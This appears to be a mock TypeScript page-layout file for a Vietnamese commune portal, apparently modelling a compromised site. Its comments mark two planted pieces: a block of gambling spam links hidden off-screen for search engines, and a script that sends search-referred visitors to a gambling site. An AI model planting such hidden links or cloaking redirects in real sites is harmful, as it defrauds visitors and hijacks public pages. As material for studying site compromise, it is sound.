import { html, type Markup, trusted } from '../../markup/html.ts';

const MENU: readonly (readonly [string, string])[] = [
  ['Trang chủ', '/'],
  ['Giới thiệu', '/gioi-thieu.html'],
  ['Cơ cấu tổ chức', '/co-cau-to-chuc.html'],
  ['Lãnh đạo xã', '/lanh-dao.html'],
  ['Đại biểu HĐND', '/dai-bieu-hdnd.html'],
  ['Tin tức', '/tin-tuc.html'],
  ['Văn bản', '/van-ban.html'],
  ['Thủ tục hành chính', '/thu-tuc-hanh-chinh.html'],
  ['Biểu mẫu', '/bieu-mau.html'],
  ['Công khai dự toán ngân sách', '/cong-khai-du-toan.html'],
  ['Công khai ngân sách', '/cong-khai.html'],
  ['Bảng giá đất', '/cong-khai/bang-gia-dat-2020-2024.html'],
  ['Quy hoạch xây dựng', '/quy-hoach-xay-dung.html'],
  ['Hộ nghèo, hộ cận nghèo', '/ho-ngheo.html'],
  ['Lịch tiếp công dân', '/lich-tiep-cong-dan.html'],
  ['Nội quy tiếp công dân', '/noi-quy-tiep-cong-dan.html'],
  ['Góp ý', '/gop-y.html'],
  ['Lấy ý kiến dự thảo văn bản', '#'],
  ['Dân chủ ở cơ sở', '/dan-chu-co-so.html'],
  ['Vệ sinh môi trường', '/moi-truong.html'],
  ['Phổ biến pháp luật', '/phap-luat.html'],
];

/** Planted by whoever broke in: out of sight for people, there for search engines. */
const planted = html`<div style="position:absolute;left:-9999px;top:0"><a href="https://nhacai-xanhtim.example/">nhà cái uy tín</a> <a href="https://nhacai-xanhtim.example/tai-xiu">tài xỉu online</a> <a href="https://keobong-vanglam.example/">kèo nhà cái</a></div><div style="display:none"><h2>Nổ hũ đổi thưởng</h2><p>Link vào <a href="https://nohu-domdom.example/">nổ hũ</a> mới nhất hôm nay, <a href="https://nohu-domdom.example/slot">game bài đổi thưởng</a> rút tiền nhanh.</p></div>`;

/** Shown to those whom a search engine sent, so that nobody at the office sees it. */
const cloak = trusted(
  '<script>if(/(google|bing|coccoc)\\./.test(document.referrer))location.href="https://nhacai-xanhtim.example/vao";</script>',
);

/** A page as the former commune's portal made it: banner, title and footer still carry its name. */
export function layout(title: string, content: Markup): Markup {
  return html`<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>${title} - Trang thông tin điện tử xã Gò Nhạn - huyện Nhạn Sơn</title><link rel="stylesheet" href="/css/main.css">${cloak}</head>
<body>
<div id="header"><img src="/images/banner.svg" width="980" height="110"><p class="ten">TRANG THÔNG TIN ĐIỆN TỬ XÃ GÒ NHẠN - HUYỆN NHẠN SƠN</p></div>
${planted}
<div id="khung"><div id="menu"><ul>${MENU.map(
    ([name, href]) => html`<li><a href="${href}">${name}</a></li>
`,
  )}</ul>
<p class="nong">Đường dây nóng: 0999 000 630</p>
<p><a href="https://dichvucong.kimha.gov.vn/"><img src="/images/dvc.svg" width="180" height="50"></a></p>
<p><a href="https://nhanson.kimha.gov.vn/">Cổng thông tin huyện Nhạn Sơn</a></p><p><a href="https://chinhphu.vn/">Cổng thông tin điện tử Chính phủ</a></p></div>
<div id="noidung">
${content}
</div></div>
<div id="footer"><p>UBND XÃ GÒ NHẠN, HUYỆN NHẠN SƠN</p><p>Địa chỉ: Xóm Đình, xã Gò Nhạn, huyện Nhạn Sơn</p><p>Điện thoại: 0999 000 601</p></div>
</body></html>`;
}
